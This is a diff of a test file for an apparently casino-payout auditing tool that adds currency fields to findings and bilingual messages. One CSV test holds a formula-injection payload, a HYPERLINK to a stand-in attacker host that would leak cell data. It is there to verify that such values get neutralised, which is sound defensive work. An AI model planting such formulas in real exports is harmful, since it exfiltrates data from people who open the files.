@@ -51,17 +51,19 @@ describe('outputs', () => {
     expect(doc.findings).toEqual([expect.objectContaining({
       hand_id: 'PL-A13-BJ', event: 9, ruleset: 'pe-pot-luck-black-jack', rule: 'blackjack-pays-3-to-2',
       article: 'Art. 13º', citation: 'Reglamento del Juego de Pot Luck Black Jack, Art. 13º', category: 'payout',
-      severity: 'error', seat: 1, hand: 1, spot: 'main', expected: 150, actual: 100, difference: -50, owed_to_player: 50,
+      severity: 'error', seat: 1, hand: 1, spot: 'main', currency: 'PEN', expected: 150, actual: 100, difference: -50, owed_to_player: 50,
     })]);
-    expect(doc.summary.underpaid_to_players).toBe(50);
+    // Money by currency only: no total that could add two currencies.
+    expect(doc.summary.money).toEqual({ PEN: { underpaid_to_players: 50, overpaid_to_players: 0 } });
+    expect(doc.summary.underpaid_to_players).toBeUndefined();
   });
 
   it('Spanish and English messages are both complete', async () => {
     const path = new URL('../../fixtures/pe-pot-luck-black-jack/art13-blackjack-paid-1-to-1.json', import.meta.url).pathname;
     const es = JSON.parse((await render([path], 'json', 'es')).text).findings[0].message;
     const en = JSON.parse((await render([path], 'json', 'en')).text).findings[0].message;
-    expect(es).toBe('Asiento 1, mano 1 (21 contra 17 del dealer): la mesa liquidó un pago de 100; el Art. 13º exige 3 a 2 sobre 100 = 150. Diferencia para el jugador: -50.');
-    expect(en).toBe('Seat 1, hand 1 (21 against the dealer\'s 17): the table settled a payout of 100; Art. 13º requires 3 to 2 on 100 = 150. Difference to the player: -50.');
+    expect(es).toBe('Asiento 1, mano 1 (21 contra 17 del dealer): la mesa liquidó un pago de 100; el Art. 13º exige 3 a 2 sobre 100 = 150; debido al jugador PEN 50.00.');
+    expect(en).toBe('Seat 1, hand 1 (21 against the dealer\'s 17): the table settled a payout of 100; Art. 13º requires 3 to 2 on 100 = 150; owed to the player PEN 50.00.');
   });
 
   it('CSV neutralises formula injection in cells from the log (OWASP)', async () => {
@@ -75,7 +77,8 @@ describe('outputs', () => {
     const row = rows[1]!;
     expect(row[header.indexOf('hand_id')]).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
     expect(row[header.indexOf('dealer_id')]).toBe('\'@SUM(1+1)');
-    expect(row[header.indexOf('difference')]).toBe('-50'); // numbers stay numbers
+    expect(row[header.indexOf('difference')]).toBe('-50.00'); // numbers stay numbers, with two decimals
+    expect(row[header.indexOf('currency')]).toBe('PEN');
     expect(csvCell('+1')).toBe('\'+1');
     expect(csvCell('\tx')).toBe('\'\tx');
     expect(csvCell('a,b')).toBe('"a,b"');
